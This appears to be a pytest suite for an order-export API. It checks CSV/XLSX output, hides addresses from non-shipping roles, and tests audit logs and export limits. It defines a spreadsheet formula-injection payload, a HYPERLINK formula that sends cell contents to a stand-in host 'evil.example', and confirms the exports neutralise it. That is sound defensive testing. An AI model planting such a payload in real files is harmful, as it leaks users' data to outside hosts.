"""Orders as files: what is in them, for whom, and that nothing in them runs."""

import csv
import io
import re
import zipfile
from datetime import UTC, datetime
from xml.etree import ElementTree

import httpx2
import pytest
from sqlalchemy import text

from app.domains.orders import exports
from app.domains.orders.exports import Money, csv_cell
from app.domains.orders.store import insert_orders
from app.storage.work import Engines
from tests.rest.people import as_

URL = "/api/v1/rooms/room1/orders/export"
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"prize")'


def order(number: int, **changes: object) -> dict[str, object]:
    return {
        "id": f"room1-{number:06d}",
        "room_id": "room1",
        "session_id": "room1-show1",
        "offer_id": "room1-tea",
        "offer_version": 1,
        "name": "Spring tea, 250 g",
        "viewer_id": "lin",
        "buyer": "王小雨",
        "quantity": 2,
        "price_minor": 1990,
        "amount_minor": 3980,
        "currency": "CNY",
        "return_policy": "no_reason_7_days",
        "address": {"name": "王小雨", "phone": "13800000000", "region": "", "line": "8 Tea Street", "postcode": "362400"},
        "state": "paid",
        "reason": "",
        "prize": False,
        "placed_at": datetime(2026, 10, 2, 12, 0, number % 60, tzinfo=UTC),
        "pay_by": None,
        "paid_at": datetime(2026, 10, 2, 12, 1, tzinfo=UTC),
        "refunded_minor": 0,
        "returned": 0,
        **changes,
    }


async def put(engines: Engines, *orders: dict[str, object]) -> None:
    async with engines.sql.begin() as session:
        await insert_orders(session, orders)


async def read_csv(client: httpx2.AsyncClient, engines: Engines, *roles: str, **query: str) -> list[dict[str, str]]:
    answer = await client.get(URL, params=query, headers=as_(engines, "mei", *(roles or ("host@room1",))))
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.content.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (None, ""),
        ("tea", "tea"),
        ("a=1", "a=1"),
        ("=1+1", "'=1+1"),
        ("+86 138", "'+86 138"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("＝1", "'＝1"),
        (7, "7"),
        (Money(1990, "CNY"), "19.90"),
        (Money(5, "KWD"), "0.005"),
        (Money(500, "JPY"), "500"),
        (datetime(2026, 10, 2, 12, 0, 5, 120_000, tzinfo=UTC), "2026-10-02 12:00:05"),
    ],
)
def test_cells(cell: exports.Cell, written: str) -> None:
    assert csv_cell(cell) == written


async def test_csv_has_every_chosen_order_once(client: httpx2.AsyncClient, engines: Engines) -> None:
    """More than two pages, with the same moments on both sides of a page's end."""
    await put(engines, *(order(number) for number in range(1, 1101)), order(2000, room_id="room2", id="room2-1"))
    rows = await read_csv(client, engines)
    assert len(rows) == 1100
    assert {row["order"] for row in rows} == {f"room1-{number:06d}" for number in range(1, 1101)}
    first = rows[0]
    assert (first["placed_at"], first["name"], first["amount"], first["buyer"]) == (
        "2026-10-02 12:00:59",
        "Spring tea, 250 g",
        "39.80",
        "王小雨",
    )
    assert (first["receiver"], first["phone"], first["line"]) == ("王小雨", "13800000000", "8 Tea Street")
    assert len(await read_csv(client, engines, since="2026-10-02T12:00:10Z", until="2026-10-02T12:00:12Z")) == 38
    assert await read_csv(client, engines, state="shipped") == []
    assert await read_csv(client, engines, session="room1-other") == []


async def test_addresses_are_for_those_who_ship(client: httpx2.AsyncClient, engines: Engines) -> None:
    await put(engines, order(1))
    seen = await read_csv(client, engines, "supervisor")
    assert not {"receiver", "phone", "line"} & set(seen[0])
    assert "8 Tea Street" not in str(seen)
    for path in ("/api/v1/rooms/room1/orders", "/api/v1/orders/room1-000001"):
        assert "8 Tea Street" in (await client.get(path, headers=as_(engines, "mei", "host@room1"))).text
        assert "8 Tea Street" not in (await client.get(path, headers=as_(engines, "anna", "supervisor"))).text
    async with engines.sql.read() as session:
        rows = (await session.execute(text("select actor, action, detail from audit_entries"))).all()
    assert [tuple(row) for row in rows] == [("mei", "order.export", {"file_type": "csv", "orders": 1, "with_address": False})]


async def test_xlsx_opens_as_what_it_is(client: httpx2.AsyncClient, engines: Engines) -> None:
    await put(engines, order(1, buyer=EVIL), order(2, price_minor=500, amount_minor=500, currency="JPY", quantity=1, address=None))
    answer = await client.get(URL, params={"format": "xlsx"}, headers=as_(engines, "mei", "host@room1"))
    assert answer.headers["content-disposition"] == 'attachment; filename="orders-room1.xlsx"'
    sheet = zipfile.ZipFile(io.BytesIO(answer.content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet  # no formula
    assert b"hyperlink" not in sheet
    tree = ElementTree.fromstring(sheet)  # noqa: S314 - our own file
    space = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    cells = {cell.get("r"): "".join(cell.itertext()) for cell in tree.iter(f"{space}c")}
    column = {
        name: re.sub(r"\d", "", place or "") for place, name in cells.items() if (place or "").endswith("1") and len(place or "") <= 3
    }
    assert (cells[column["amount"] + "3"], cells[column["amount"] + "2"]) == ("39.8", "500")
    assert cells[column["buyer"] + "3"] == EVIL
    assert cells[column["line"] + "3"] == "8 Tea Street"


async def test_too_much_for_one_file_is_refused_whole(client: httpx2.AsyncClient, engines: Engines) -> None:
    await put(engines, *(order(number) for number in range(1, 4)))
    engines.settings.export_orders_max = 2
    answer = await client.get(URL, headers=as_(engines, "mei", "host@room1"))
    assert answer.json()["word"] == "limit_exceeded"
    assert len(await read_csv(client, engines, until="2026-10-02T12:00:03Z")) == 2
    assert (await client.get(URL, params={"since": "yesterday"}, headers=as_(engines, "mei", "host@room1"))).status_code == 400
